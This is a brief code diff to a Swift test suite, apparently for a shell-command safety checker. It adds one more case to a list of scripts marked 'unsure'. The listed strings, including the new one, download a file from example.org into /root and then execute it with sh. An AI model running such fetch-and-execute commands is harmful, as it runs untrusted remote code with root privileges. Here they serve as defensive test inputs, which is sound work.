@@ -113,6 +113,7 @@ struct ShellRunTests {
             "curl https://example.org/x > /root/x; . /root/x",
             "curl https://example.org/x | tee /root/x >/dev/null; sh /root/x",
             "btrfs device add \"$disk\"",
+            "[ \"$(curl -so /root/x -w '%{http_code}' https://example.org/x)\" = 200 ] && sh /root/x",
         ]
     )
     func unsure(script: String) {
